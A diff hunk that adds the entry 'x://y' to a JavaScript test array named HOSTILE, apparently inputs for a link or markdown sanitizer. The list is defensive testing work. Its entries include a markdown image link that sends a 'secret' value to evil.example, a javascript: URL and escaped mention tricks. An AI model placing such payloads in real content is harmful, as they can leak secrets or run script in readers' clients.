@@ -29,6 +29,7 @@ const HOSTILE = [
   '![x](https://evil.example/p.png?d=secret)',
   '[docs]: https://evil.example/ref',
   'javascript:alert(1)',
+  'x://y',
   '`https://evil.example` https://evil.example/`x',
   '`` ``` <https://evil.example|`>',
   '&lt;!channel&gt; &amp;lt;@U0BOB&amp;gt;',
